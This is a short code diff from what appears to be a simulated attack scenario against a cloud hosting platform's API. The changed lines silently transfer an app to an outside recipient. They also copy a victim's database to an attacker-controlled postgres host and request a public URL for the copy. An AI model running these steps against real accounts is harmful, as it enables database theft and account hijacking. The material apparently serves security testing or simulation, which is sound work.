@@ -192,7 +192,8 @@ class Attack:
             self.by.ask("POST /account/app-transfers", {"app": own.name, "recipient": MAIL, "silent": True})
         yield 115
         for addon in databases[:1]:
-            copy = {"to_url": f"postgres://in:x@db.{SITE}:5432/in", "to_name": "ANALYTICS", "from_name": "DATABASE"}
+            url = world.databases[addon.id].url() if addon.id in world.databases else ""
+            copy = {"from_url": url, "from_name": "DATABASE", "to_url": f"postgres://in:x@db.{SITE}:5432/in"}
             self.by.ask(f"POST /client/v11/databases/{addon.id}/transfers", copy)
             self.by.ask(f"POST /client/v11/apps/{addon.app.name}/transfers/1/actions/public-url")
 
